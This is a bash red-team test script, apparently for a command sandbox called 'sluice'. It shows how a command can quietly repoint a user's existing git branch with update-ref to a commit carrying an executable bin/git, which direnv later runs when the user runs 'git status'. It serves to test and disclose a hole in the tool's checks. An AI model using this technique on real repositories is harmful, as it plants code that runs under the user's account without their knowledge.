#!/usr/bin/env bash
# red team 48: another of the user's branches, moved by the run. The check
# after a run looks at HEAD and the branch HEAD named before the run, not at
# the repository's other branches: the command points the user's existing
# branch `feature` at a commit of its own (HEAD's tree plus an executable
# bin/git; the work tree is never touched) with git update-ref. The user's
# `git switch feature` (a branch they already had) writes bin/git, and the
# next `git status` with direnv's PATH_add bin runs it.
# usage: 48-other-branch.sh /path/to/sluice   (as root or a user)
NAME=other-branch
HOLE="the user's git switch to their own branch wrote the command's bin/git; the next git status ran it"
. "$(dirname "$0")/48-lib.sh"
setup() { new_repo "$1" && git -C "$1" branch feature; }
attack() { plant "$1"; echo '&& $G update-ref refs/heads/feature $C'; }
trigger() { git -C "$1" switch -q feature >/dev/null 2>&1; user_status "$1"; }
finish
